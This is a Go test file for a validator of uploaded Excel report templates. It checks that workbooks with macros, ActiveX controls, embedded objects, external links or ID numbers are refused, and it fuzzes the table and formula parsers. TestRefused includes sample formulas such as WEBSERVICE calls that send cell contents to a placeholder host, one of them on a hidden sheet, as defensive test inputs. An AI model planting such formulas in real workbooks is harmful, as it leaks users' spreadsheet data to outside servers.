package design

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"wengang/internal/fault"
)

// with adds a part to a workbook.
func with(t testing.TB, raw []byte, name, body string) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	z, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if f.Name == name {
			continue
		}
		in, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		p, _ := w.Create(f.Name)
		if _, err := io.Copy(p, in); err != nil {
			t.Fatal(err)
		}
		in.Close()
	}
	p, _ := w.Create(name)
	_, _ = p.Write([]byte(body))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func book(t testing.TB, cells map[string]string) []byte {
	t.Helper()
	o := newOffice(t, "Sheet1")
	for at, v := range cells {
		o.put(at, v, "cell")
	}
	return o.bytes()
}

// hiddenFormula is a workbook with a formula on a sheet that nobody sees.
func hiddenFormula(t testing.TB, formula string) []byte {
	return changed(t, func(f *excelize.File) error {
		if _, err := f.NewSheet("辅助"); err != nil {
			return err
		}
		if err := f.SetCellFormula("辅助", "B2", formula); err != nil {
			return err
		}
		return f.SetSheetVisible("辅助", false)
	})
}

func named(t testing.TB, refers string) []byte {
	return changed(t, func(f *excelize.File) error {
		return f.SetDefinedName(&excelize.DefinedName{Name: "外部", RefersTo: refers})
	})
}

func changed(t testing.TB, change func(*excelize.File) error) []byte {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(book(t, map[string]string{"A1": "项目", "B1": "人数", "A2": "务工人数"})))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := change(f); err != nil {
		t.Fatal(err)
	}
	out, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// What programs declare in every workbook they write is no macro: a blank that
// was made or filled by one is taken, one with such a part is not.
func TestDeclaredKindIsNoMacro(t *testing.T) {
	plain := changed(t, func(*excelize.File) error { return nil })
	kind := `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"></Default>`
	z, err := zip.NewReader(bytes.NewReader(plain), int64(len(plain)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, f := range z.File {
		in, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(in)
		if err != nil {
			t.Fatal(err)
		}
		in.Close()
		if f.Name == "[Content_Types].xml" && !bytes.Contains(text, []byte("vbaProject")) {
			text = bytes.Replace(text, []byte("</Types>"), []byte(kind+"</Types>"), 1)
		}
		to, err := w.Create(f.Name)
		if err == nil {
			_, err = to.Write(text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := Read(out.Bytes(), "x.xlsx", ""); err != nil {
		t.Errorf("a plain workbook: %v", err)
	}
	if _, err := Read(with(t, out.Bytes(), "xl/other.bin", "x"), "x.xlsx", ""); err == nil {
		t.Error("the declared part is there and was taken")
	}
}

// TestRefused: what is more than a table is refused with its reason.
func TestRefused(t *testing.T) {
	plain := book(t, map[string]string{"A1": "项目", "B1": "人数", "A2": "务工人数"})
	rels := `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://x/relationships/oleObject" Target="file:///c:/x.xlsx" TargetMode="External"/></Relationships>`
	for _, c := range []struct {
		name string
		raw  []byte
		key  string
	}{
		{"macros", with(t, plain, "xl/vbaProject.bin", "x"), "design.blank.macros"},
		{"macro sheet", with(t, plain, "xl/macrosheets/sheet1.xml", "<x/>"), "design.blank.macros"},
		{"controls", with(t, plain, "xl/activeX/activeX1.xml", "<x/>"), "design.blank.macros"},
		{"other files", with(t, plain, "xl/embeddings/oleObject1.bin", "x"), "design.blank.objects"},
		{"links", with(t, plain, "xl/externalLinks/externalLink1.xml", "<x/>"), "design.blank.links"},
		{"connections", with(t, plain, "xl/connections.xml", "<x/>"), "design.blank.links"},
		{"linked part", with(t, plain, "xl/worksheets/_rels/sheet1.xml.rels", rels), "design.blank.links"},
		{"formula outside", book(t, map[string]string{"A1": "项目", "B1": "人数", "B2": "=[1]Sheet1!A1"}), "design.blank.formula"},
		{"formula to a server", book(t, map[string]string{"A1": "项目", "B1": "人数", "B2": `=WEBSERVICE("http://x.example/"&A1)`}), "design.blank.formula"},
		{"formula outside on a hidden sheet", hiddenFormula(t, `WEBSERVICE("http://x.example/")`), "design.blank.formula"},
		{"name outside", named(t, `[1]Sheet1!$A$1`), "design.blank.formula"},
		{"people", book(t, map[string]string{"A1": "姓名", "B1": "证件号码", "B2": "37152219000101001X"}), "design.blank.personal"},
		{"text", []byte("项目,人数"), "design.blank.type"},
		{"nothing", nil, "design.blank.type"},
		{"half", plain[:len(plain)/2], "sheet.broken"},
		{"large", append(bytes.Clone(plain), make([]byte, MaxBlank)...), "sheet.large"},
		{"empty sheet", book(t, nil), "design.blank.empty"},
	} {
		_, err := Read(c.raw, "x.xlsx", "")
		if e, ok := asFault(err); !ok || e.Kind != fault.Invalid || e.Key != c.key {
			t.Errorf("%s: %v, want %s", c.name, err, c.key)
		}
	}
}

// TestLinksAreTakenOut: what leads outside when clicked is not in what leaves.
func TestFormulasStay(t *testing.T) {
	if outside.MatchString("SUM(A1:B2)+IF(C1=0,0,ROUND(D6*10000/C6*100,1))") || outside.MatchString("VLOOKUP(A1,填表说明!A:B,2,0)") {
		t.Error("an ordinary formula is taken for one that leads outside")
	}
}

func FuzzRead(f *testing.F) {
	for _, name := range []string{"counties.xlsx", "monthly.xlsx", "across.xlsx", "card.xlsx"} {
		f.Add(blank(f, name, nil))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		table, err := Read(raw, "x.xlsx", "")
		if err != nil {
			return
		}
		s := Recognise(table, counties11)
		s.Open(table)
		v := Version{Spec: *s}
		if _, err := v.Form(raw); err != nil {
			t.Errorf("a guess that is no form: %v", err)
		}
	})
}

// FuzzRecognise builds tables out of words, so that the guesser meets shapes
// rather than broken files.
func FuzzRecognise(f *testing.F) {
	f.Add("附件1\n务工情况表\n单位：万人\n序号|县（市、区）|务工人数|其中：女性|备注\n合计||||\n1|莘县|||\n2|冠县|||\n填表人：  电话：", uint8(3), uint8(5))
	f.Add("指标名称|计量单位|本月|去年同期|同比（%）\n务工人数|万人|||\n其中：省外|人|||", uint8(0), uint8(0))
	f.Add("项目|合计|莘县|冠县\n监测对象|||\n||", uint8(1), uint8(1))
	f.Fuzz(func(t *testing.T, text string, row, across uint8) {
		table := &Table{Sheet: "表", cells: map[[2]int]*Cell{}, hidden: map[[2]int]*Cell{}}
		for i, line := range strings.Split(text, "\n") {
			for j, word := range strings.Split(line, "|") {
				if i >= 40 || j >= 20 {
					break
				}
				table.cells[[2]int{i + 1, j + 1}] = &Cell{At: cellName(j+1, i+1), Row: i + 1, Col: j + 1, Down: 1, Across: 1, Text: clip(word), Boxed: i > 1}
			}
		}
		// One merged cell somewhere.
		if top := table.cells[[2]int{int(row) + 1, 1}]; top != nil {
			for k := 2; k <= int(across)%8+1; k++ {
				if table.cells[[2]int{top.Row, k}] != nil {
					delete(table.cells, [2]int{top.Row, k})
					table.hidden[[2]int{top.Row, k}] = top
					top.Across = k
				}
			}
		}
		table.trim()
		s := Recognise(table, counties11)
		s.Open(table)
		for _, b := range s.Binds {
			if _, ok := parseKey(b.At); !ok {
				t.Errorf("a binding of %q", b.At)
			}
			s.Heading(table, b.At)
		}
		if _, err := (&Version{Spec: *s}).Form(nil); err != nil {
			t.Errorf("a guess that is no form: %v", err)
		}
		table.Fingerprint()
	})
}

func FuzzFormula(f *testing.F) {
	for _, s := range []string{"D+E<=C", "SUM(D7:F7)=C7±1", "(D7-E7)/E7*100", "行4+行5=行6", "((((1))))", "SUM(A1:ZZ999)", "1=1±1e9999", "5%*B2>=0", "A/0=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if c, err := ParseComparison(s); err == nil {
			c.Holds(func(string) (*rat, bool) { return one(), true })
		}
		if e, err := ParseExpression(s); err == nil {
			e.Value(func(string) (*rat, bool) { return nil, false })
		}
	})
}

func FuzzFoot(f *testing.F) {
	f.Add("单位负责人：    填表人：    电话：    报出日期：20  年  月  日")
	f.Add("填报单位（盖章）：____ 统计时间：2022年1-3月")
	f.Fuzz(func(t *testing.T, s string) {
		if !labelled(s) && fillFoot(s, map[Word]string{WordOffice: "甲"}) != s {
			t.Error("words without a label changed")
		}
	})
}

var _ = excelize.NewFile
